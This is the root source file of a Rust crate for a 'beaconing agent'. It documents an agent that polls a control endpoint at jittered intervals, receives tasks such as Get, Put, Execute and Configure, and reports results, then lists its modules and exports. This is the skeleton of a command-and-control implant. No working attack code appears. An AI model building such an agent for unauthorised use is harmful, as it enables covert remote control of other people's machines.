//! Beaconing agent.
//!
//! The agent checks in with a control endpoint at jittered intervals,
//! receives a batch of tasks, runs them, and reports the results on the next
//! check-in.
//!
//! ```text
//!   ┌──────────┐  payload (results)   ┌──────────────────┐
//!   │  Agent   │ ───────────────────▶ │ control endpoint │
//!   │  serve() │ ◀─────────────────── │                  │
//!   └────┬─────┘   tasks (JSON)       └──────────────────┘
//!        │ decode_task
//!        ▼
//!   Task::{Get, Put, List, Execute, Configure}::run ──▶ ResultSet
//! ```

pub mod agent;
pub mod config;
pub mod error;
pub mod protocol;
pub mod system;
pub mod tasks;
pub mod transport;

pub use agent::{Agent, AgentControl, DwellScheduler, MeanDwell, ServeStats, StopHandle};
pub use config::AgentConfig;
pub use error::{ConfigError, DecodeError, Error, Result, TransportError};
pub use tasks::{Task, TaskResult};
